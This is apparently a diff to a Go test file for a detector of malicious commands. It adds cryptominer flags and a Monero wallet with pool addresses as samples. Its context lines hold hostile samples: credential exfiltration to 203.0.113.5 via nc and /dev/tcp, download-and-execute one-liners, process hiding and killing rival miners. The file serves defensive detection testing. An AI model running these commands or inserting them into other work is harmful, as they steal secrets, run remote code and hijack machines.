@@ -12,7 +12,7 @@ import (
 // must find it too.
 func TestLiteralsMissNoMatch(t *testing.T) {
 	samples := map[string][]string{
-		"miner-config": {`{"algo": "KawPow"}`, `{"algo": "kawpow"}`, `--algo=ETHASH`, `--algo Ethash`, `--algo GhostRider`,
+		"miner-config": {`--cpu-max-threads-hint=75`, `--randomx-1gb-pages`, `{"algo": "KawPow"}`, `{"algo": "kawpow"}`, `--algo=ETHASH`, `--algo Ethash`, `--algo GhostRider`,
 			`{"algorithm": "kHeavyHash"}`, `{"algo": "Autolykos2"}`, `{"algo": "AstroBWT"}`, `{"algo": "Argon2/chukwa"}`,
 			`{"coin": "XMR"}`, `--coin=monero`, `{"algo": "rx/0"}`, `{"algo": "CryptoNight"}`},
 		"attack-credential-upload": {`nc 203.0.113.5 9000 < /etc/shadow`, `cat /root/.aws/credentials > /dev/tcp/203.0.113.5/443`, `requests.post(u, files={'f': open('/root/.kube/config', 'rb')})`, `cat /proc/*/environ | tr '\\0' '\\n' | grep -i key`, `curl -F "f=@$HOME/.aws/credentials" http://x/`, `CURL -d @/root/.docker/config.json http://x/`,
@@ -38,6 +38,7 @@ func TestLiteralsMissNoMatch(t *testing.T) {
 		"attack-hide-process": {"`( exec -a '[kworker/u8:2-events]' /usr/local/lib/w --quiet ) &`", "`mount --bind /var/lib/.empty /proc/$pid`", "`mount -o bind /tmp/e /proc/1234`"},
 		"attack-exec-downloaded": {"`exec(urllib.request.urlopen(\"https://x/boot.py\").read())`", "`python3 -c \"import urllib.request as u;exec(u.urlopen('http://x/s.py').read())\"`",
 			"`exec(requests.get(u).text)`", "`eval(await (await fetch(u)).text())`", "`IEX (New-Object Net.WebClient).DownloadString('http://x/a')`", "`iwr http://x/a | iex`"},
+		"miner-wallet": {`"user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",`, `--url=pool.hashvault.pro:443 --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --tls`, `-o gulf.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p w1`},
 		"attack-kill-rivals": {`ps aux | awk '{if($3>40.0) print $2}' | xargs -I % kill -9 %`,
 			`netstat -anp | grep ':3333\|:4444' | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %`,
 			`ss -tnp | grep 203.0.113.7 | awk '{print $6}' | xargs kill -9`, `pkill -f xmrig`, `killall -9 minerd`,
